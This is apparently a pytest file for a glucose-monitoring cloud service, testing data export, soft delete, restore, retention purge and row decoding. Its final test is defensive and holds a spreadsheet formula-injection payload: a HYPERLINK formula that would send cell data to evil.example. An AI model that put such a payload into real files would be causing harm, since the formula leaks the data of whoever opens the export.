"""Data rights: export (JSON and CSV), soft delete, restore, purge after the period."""

import csv
import io
import json
import time
import zipfile

import pytest

from nightlink.cloud.retention import purge_deleted
from nightlink.nightscout.store import Subjects
from nightlink.shared import codec, features

API = "/api/nl/v1"
DEV = "a1b2c3d4e5f6"
ROOM = (21.5, 40.0, None, 600.0, 30.0)
DAY = 86400
TENANT_TABLES = ("epoch_rows", "ns_docs", "ns_subjects", "nights", "alerts", "alert_settings",
                 "memberships", "api_secrets", "devices", "retracted_boots")
ENTRY = {"type": "sgv", "date": 1_710_000_000_000, "sgv": 123, "direction": "Flat",
         "dateString": "2024-03-09T16:00:00.000Z", "sysTime": "2024-03-09T16:00:00.000Z",
         "utcOffset": 0}


def fill(cloud, tenant="fam-1"):
    """One of everything a tenant can hold."""
    t = cloud.store.tenant(tenant)
    device = DEV if tenant == "fam-1" else "0a0b0c0d0e0f"
    t.put_rows([codec.Record(features.ROOM, codec.device_id(device), 7, 1, 57_000_000,
                             [codec.quantize_row(features.ROOM, ROOM)] * 2)])
    t.add_entries([{"type": "sgv", "date": 1_710_000_000_000, "sgv": 123, "direction": "Flat"}])
    t.add_documents("treatments", [{"identifier": "t1", "created_at": 1_710_000_000_000,
                                    "eventType": "Carbs", "carbs": 12}])
    t.add_documents("devicestatus", [{"created_at": 1_710_000_000_000, "device": "clock",
                                      "uploader": {"battery": 80}}])
    t.add_documents("profile", [{"units": "mg/dl", "startDate": "2023-11-14T22:13:20.000Z",
                                 "created_at": "2023-11-14T22:13:20.000Z"}])
    Subjects(cloud.store.db, tenant).create("clock", ["readable"])
    t.put_night("2024-03-09", {"tir": 0.91})
    t.retract_boot(device, 3, [])  # an import its edge undid
    t.add_alert("low", "urgent", 1_710_000_000_000, "Low glucose", sgv=54)
    cloud.client.post(f"{API}/tenants/{tenant}/devices", headers=cloud.auth("admin@example.org"),
                      json={"device_id": device, "kind": "clock"})
    cloud.client.post(f"{API}/tenants/{tenant}/api-secret",
                      headers=cloud.auth("admin@example.org"))


def tenant_rows(cloud, tenant):
    return {table: cloud.store.db.scalar(f"SELECT count(*) AS n FROM {table} WHERE tenant_id = ?",
                                         (tenant,)) for table in TENANT_TABLES}


def people(cloud):
    cloud.user("admin@example.org", admin=True)
    cloud.user("pat@example.org", tenant="fam-1", role="patient")
    cloud.user("doc@example.org", tenant="fam-1", role="doctor")
    return cloud


@pytest.fixture
def fam(cloud):
    return people(cloud)


# -- export ----------------------------------------------------------------------------------


def check_export_doc(doc):
    assert doc["tenant"]["id"] == "fam-1"
    [entry] = doc["entries"]
    assert entry.pop("_id") and entry == ENTRY
    assert doc["treatments"][0]["carbs"] == 12 and doc["treatments"][0]["identifier"] == "t1"
    assert doc["devicestatus"][0]["uploader"] == {"battery": 80}
    assert [p["units"] for p in doc["profiles"]] == ["mg/dl"]
    assert doc["nights"][0]["night"] == "2024-03-09" and doc["nights"][0]["tir"] == 0.91
    assert [a["rule"] for a in doc["alerts"]] == ["low"]
    assert {m["email"] for m in doc["members"]} == {"pat@example.org", "doc@example.org"}
    assert doc["devices"][0]["device_id"] == DEV and "mqtt_password" not in doc["devices"][0]
    room = doc["epochs"]["room"]
    assert [(r["seq"], r["epoch"]) for r in room] == [(1, 57_000_000), (2, 57_000_001)]
    assert room[0] == {"device": DEV, "boot": 7, "seq": 1, "epoch": 57_000_000,
                       "time": "2024-03-09T16:00:00Z", "flags": 0, "temp_c": 21.5,
                       "humidity_pct": 40.0, "light_lux": None, "co2_ppm": 600.0,
                       "noise_dba": 30.0}


def test_export__json_has_everything(fam):
    fill(fam)
    r = fam.client.get(f"{API}/tenants/fam-1/export", headers=fam.auth("pat@example.org"))
    assert r.status_code == 200 and r.headers["content-type"] == "application/json"
    assert "attachment" in r.headers["content-disposition"]
    check_export_doc(r.json())
    entry = fam.store.audit_log("fam-1")[0]
    assert entry["action"] == "export" and entry["detail"] == {"format": "json"}


def test_export__json_on_each_backend(cloud_any):
    people(cloud_any)
    fill(cloud_any)
    fill(cloud_any, "fam-2")
    r = cloud_any.client.get(f"{API}/tenants/fam-1/export", headers=cloud_any.auth("pat@example.org"))
    assert r.status_code == 200
    check_export_doc(r.json())


def test_export__csv_zip(fam):
    fill(fam)
    r = fam.client.get(f"{API}/tenants/fam-1/export?format=csv",
                       headers=fam.auth("admin@example.org"))
    assert r.status_code == 200 and r.headers["content-type"] == "application/zip"
    z = zipfile.ZipFile(io.BytesIO(r.content))
    assert sorted(z.namelist()) == sorted([
        "tenant.csv", "entries.csv", "treatments.csv", "devicestatus.csv", "profiles.csv",
        "food.csv", "activity.csv", "nights.csv", "alerts.csv", "members.csv", "devices.csv", "epochs_room.csv"])

    def read(name):
        return list(csv.DictReader(io.StringIO(z.read(name).decode())))

    room = read("epochs_room.csv")
    assert len(room) == 2 and room[0]["temp_c"] == "21.5" and room[0]["light_lux"] == ""
    [entry] = read("entries.csv")
    assert entry.pop("_id") and entry == {k: str(v) for k, v in ENTRY.items()}
    assert json.loads(read("devicestatus.csv")[0]["uploader"]) == {"battery": 80}
    assert read("alerts.csv")[0]["message"] == "Low glucose"
    assert fam.store.audit_log("fam-1")[0]["detail"] == {"format": "csv"}


def test_export__doctor_and_stranger_refused(fam):
    fam.user("pat2@example.org", tenant="fam-2", role="patient")
    assert fam.client.get(f"{API}/tenants/fam-1/export",
                          headers=fam.auth("doc@example.org")).status_code == 403
    assert fam.client.get(f"{API}/tenants/fam-1/export",
                          headers=fam.auth("pat2@example.org")).status_code == 404
    assert fam.client.get(f"{API}/tenants/fam-1/export?format=xml",
                          headers=fam.auth("pat@example.org")).status_code == 422
    assert "export" not in [e["action"] for e in fam.store.audit_log()]


# -- soft delete and restore --------------------------------------------------------------------


def test_delete__tenant_gone_for_members_not_for_admins(fam):
    fill(fam)
    before = tenant_rows(fam, "fam-1")
    h = fam.auth("pat@example.org")
    assert fam.client.delete(f"{API}/tenants/fam-1", headers=h).status_code == 204
    for who in ("pat@example.org", "doc@example.org"):
        r = fam.client.get(f"{API}/tenants/fam-1/members", headers=fam.auth(who))
        assert r.status_code == 404
        assert fam.client.get(f"{API}/patients", headers=fam.auth(who)).json() == []
    admin = fam.auth("admin@example.org")
    r = fam.client.get(f"{API}/tenants/fam-1/export", headers=admin)
    assert r.status_code == 200 and r.json()["tenant"]["deleted_at"] is not None
    assert tenant_rows(fam, "fam-1") == before  # soft: nothing is removed yet
    assert fam.store.audit_log("fam-1")[1]["action"] == "tenant.delete"


def test_delete__doctor_cannot(fam):
    r = fam.client.delete(f"{API}/tenants/fam-1", headers=fam.auth("doc@example.org"))
    assert r.status_code == 403
    assert fam.store.get_tenant("fam-1")["deleted_at"] is None


def test_restore__admin_within_the_period(fam):
    fam.client.delete(f"{API}/tenants/fam-1", headers=fam.auth("pat@example.org"))
    assert fam.client.post(f"{API}/tenants/fam-1/restore",
                           headers=fam.auth("pat@example.org")).status_code == 403
    r = fam.client.post(f"{API}/tenants/fam-1/restore", headers=fam.auth("admin@example.org"))
    assert r.status_code == 200 and r.json()["deleted_at"] is None
    assert fam.client.get(f"{API}/tenants/fam-1/members",
                          headers=fam.auth("doc@example.org")).status_code == 200
    assert fam.store.audit_log("fam-1")[0]["action"] == "tenant.restore"


def test_restore__refused_after_the_period_or_when_not_deleted(fam):
    admin = fam.auth("admin@example.org")
    assert fam.client.post(f"{API}/tenants/fam-1/restore", headers=admin).status_code == 409
    assert fam.client.post(f"{API}/tenants/nope/restore", headers=admin).status_code == 404
    fam.store.set_tenant("fam-1", deleted_at=time.time() - 31 * DAY)
    assert fam.client.post(f"{API}/tenants/fam-1/restore", headers=admin).status_code == 410


# -- purge -------------------------------------------------------------------------------------------


def test_purge__only_tenants_deleted_longer_ago_than_the_period(cloud_any):
    people(cloud_any)
    cloud_any.store.create_tenant("fam-3", "Family three")
    for tenant in ("fam-1", "fam-2"):
        fill(cloud_any, tenant)
    fill_3 = cloud_any.store.tenant("fam-3")
    fill_3.add_entries([{"type": "sgv", "date": 1_710_000_000_000, "sgv": 100}])
    cloud_any.store.set_tenant("fam-1", deleted_at=time.time() - 31 * DAY)
    cloud_any.store.set_tenant("fam-3", deleted_at=time.time() - 1 * DAY)
    fam2_before = tenant_rows(cloud_any, "fam-2")

    assert purge_deleted(cloud_any.store, older_than_days=30) == ["fam-1"]
    assert tenant_rows(cloud_any, "fam-1") == dict.fromkeys(TENANT_TABLES, 0)
    assert cloud_any.store.db.one("SELECT id FROM tenants WHERE id = 'fam-1'") is None
    assert tenant_rows(cloud_any, "fam-2") == fam2_before
    assert cloud_any.store.tenant("fam-2").count_rows() == 2
    assert cloud_any.store.get_tenant("fam-3", include_deleted=True)["deleted_at"]
    assert tenant_rows(cloud_any, "fam-3")["ns_docs"] == 1
    assert cloud_any.store.audit_log("fam-1")[0]["action"] == "tenant.purge"
    assert purge_deleted(cloud_any.store, older_than_days=30) == []
    # The accounts stay; they only lost the membership.
    assert cloud_any.store.user_by_email("pat@example.org")


def test_purge__soft_delete_then_purge_through_the_api(fam):
    fill(fam)
    fam.client.delete(f"{API}/tenants/fam-1", headers=fam.auth("pat@example.org"))
    assert purge_deleted(fam.store, 30) == []
    assert purge_deleted(fam.store, 30, now=time.time() + 31 * DAY) == ["fam-1"]
    assert fam.client.post(f"{API}/tenants/fam-1/restore",
                           headers=fam.auth("admin@example.org")).status_code == 404
    assert sum(tenant_rows(fam, "fam-1").values()) == 0


def test_retention_worker__purges_at_start(tmp_path):
    import time as _time

    from nightlink.cloud.retention import RetentionWorker
    from nightlink.cloud.store import Store

    store = Store.open(f"sqlite:///{tmp_path / 'c.db'}")
    store.create_tenant("old", "Old")
    store.create_tenant("recent", "Recent")
    store.set_tenant("old", deleted_at=_time.time() - 31 * 86400)
    store.set_tenant("recent", deleted_at=_time.time() - 86400)
    worker = RetentionWorker(store, 30).start()
    deadline = _time.monotonic() + 5
    while not worker.purged and _time.monotonic() < deadline:
        _time.sleep(0.02)
    worker.stop()
    assert worker.purged == ["old"]
    assert store.get_tenant("recent", include_deleted=True)["id"] == "recent"
    store.close()


def test_one_row_decoder__api_export_and_fusion_agree_on_values_and_types(fam):
    """A stored row reads the same through the data API, the export and fusion: a whole
    feature is an int (glucose 812 was 812.0 in the export), a scaled one a rounded float."""
    t = fam.store.tenant("fam-1")
    cgm = (400.0, 2.5, -3.0, -0.35, 2.0, None)
    epoch = 57_000_000
    t.put_rows([codec.Record(features.CGM, codec.device_id(DEV), 7, 1, epoch,
                             [codec.quantize_row(features.CGM, cgm)])])
    t.put_rows([codec.Record(features.ROOM, codec.device_id(DEV), 7, 1, epoch,
                             [codec.quantize_row(features.ROOM, ROOM)])])
    want_cgm = {"glucose_mgdl": 400, "minutes_since": 2.5, "delta5_mgdl": -3,
                "roc_mgdl_min": -0.35, "direction": 2, "sensor_error": None}
    want_room = {"temp_c": 21.5, "humidity_pct": 40.0, "light_lux": None, "co2_ppm": 600,
                 "noise_dba": 30.0}

    start = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(epoch * 30))
    end = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(epoch * 30 + 60))
    got = {}
    for name in ("cgm", "room"):
        r = fam.client.get(f"{API}/tenants/fam-1/epochs", headers=fam.auth("pat@example.org"),
                           params={"stream": name, "start": start, "end": end})
        assert r.status_code == 200, r.text
        [row] = r.json()["rows"]
        got[name] = {k: row[k] for k in (want_cgm if name == "cgm" else want_room)}
    export = fam.client.get(f"{API}/tenants/fam-1/export",
                            headers=fam.auth("pat@example.org")).json()
    exported = {name: {k: export["epochs"][name][0][k] for k in want}
                for name, want in (("cgm", want_cgm), ("room", want_room))}
    fused = {name: t.stream_values(stream, epoch, epoch + 1)[epoch]
             for name, stream in (("cgm", features.CGM), ("room", features.ROOM))}

    for name, want in (("cgm", want_cgm), ("room", want_room)):
        measured = {k: v for k, v in want.items() if v is not None}
        for seen in (got[name], exported[name], fused[name]):
            assert seen == {k: v for k, v in want.items() if k in seen}
            assert {k: type(v) for k, v in seen.items() if v is not None} == \
                   {k: type(v) for k, v in measured.items() if k in seen}
        assert fused[name] == measured


def test_fusion__a_devices_later_row_of_an_epoch_wins_over_its_earlier_one(fam):
    """An edge gives a reading that arrived after its epoch closed a row of its own for that
    epoch (the first showed the reading before, older): fusion takes the later one; another
    device's row still only adds what the first device lacked."""
    t = fam.store.tenant("fam-1")
    epoch = 57_000_000
    stale = codec.quantize_row(features.CGM, (190.0, 12.0, 12.0, 2.5, 4.0, None))
    late = codec.quantize_row(features.CGM, (181.0, 0.5, None, None, 4.0, None))
    other = codec.quantize_row(features.CGM, (99.0, 1.0, None, None, 4.0, None))
    t.put_rows([codec.Record(features.CGM, codec.device_id(DEV), 7, 1, epoch, [stale])])
    t.put_rows([codec.Record(features.CGM, codec.device_id(DEV), 7, 2, epoch, [late])])
    t.put_rows([codec.Record(features.CGM, codec.device_id("ffffffffffff"), 1, 1, epoch,
                             [other])])
    got = t.stream_values(features.CGM, epoch, epoch + 1)[epoch]
    assert got["glucose_mgdl"] == 181 and got["minutes_since"] == 0.5
    assert "delta5_mgdl" not in got  # not the stale row's, nor the other device's


def test_export__stored_text_never_runs_as_a_spreadsheet_formula(fam):
    """Anyone with the upload secret writes treatments' text; the patient or their doctor
    opens the export in a spreadsheet, which ran `=HYPERLINK(…)` as a formula."""
    fill(fam)
    link = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
    fam.store.tenant("fam-1").add_documents("treatments", [{
        "identifier": "t2", "created_at": 1_710_000_060_000, "eventType": "+Note",
        "notes": link, "enteredBy": "@SUM(1+1)", "reason": "\t=1+1", "carbs": -5}])
    r = fam.client.get(f"{API}/tenants/fam-1/export?format=csv",
                       headers=fam.auth("admin@example.org"))
    z = zipfile.ZipFile(io.BytesIO(r.content))
    [row] = [t for t in csv.DictReader(io.StringIO(z.read("treatments.csv").decode()))
             if t["identifier"] == "t2"]
    assert row["notes"] == "'" + link and row["eventType"] == "'+Note"
    assert row["enteredBy"] == "'@SUM(1+1)" and row["reason"] == "'\t=1+1"
    assert row["carbs"] == "-5"  # a number stays a number
